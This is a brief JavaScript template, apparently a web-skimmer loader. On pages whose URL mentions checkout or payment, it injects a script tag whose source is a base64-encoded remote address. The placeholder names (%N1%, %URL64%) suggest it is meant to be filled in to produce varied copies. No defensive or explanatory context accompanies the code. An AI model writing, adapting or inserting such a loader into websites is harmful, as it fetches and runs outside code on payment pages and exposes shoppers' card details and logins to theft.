if (/checkout|payment/.test(location.href)) {
  var %N1% = document.createElement('script');
  %N1%.async = true;
  %N1%.src = atob('%URL64%');
  document.head.appendChild(%N1%);
}
